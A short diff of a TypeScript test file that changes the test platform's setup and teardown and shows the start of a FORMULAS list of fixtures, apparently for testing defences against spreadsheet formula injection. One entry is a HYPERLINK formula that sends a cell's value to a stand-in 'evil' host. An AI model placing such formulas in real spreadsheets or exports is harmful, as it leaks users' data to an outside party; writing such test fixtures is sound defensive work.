@@ -5,9 +5,8 @@ import { telephony } from './support/telephony.ts';
 
 let platform: Platform;
 beforeAll(async () => {
-  platform = await startPlatform();
+  platform = await startPlatform(afterAll);
 });
-afterAll(() => platform.close());
 
 const FORMULAS = [
   '=HYPERLINK("http://evil/?x="&A1,"Invoice")',
